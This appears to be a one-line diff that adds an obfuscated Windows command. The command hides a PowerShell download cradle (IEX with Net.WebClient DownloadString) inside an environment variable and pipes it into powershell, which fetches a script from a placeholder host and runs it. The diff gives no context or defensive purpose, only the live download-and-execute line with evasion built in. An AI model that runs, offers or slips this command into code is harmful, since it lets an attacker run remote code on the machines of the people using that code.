@@ -1,0 +1,1 @@
+cmd.exe /c "set OKl=IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt')&&set Xm=invoke-expression ([environment]::getenvironmentvariable('OKl','process'))&&cmd /c echo %Xm%^|powershell -"
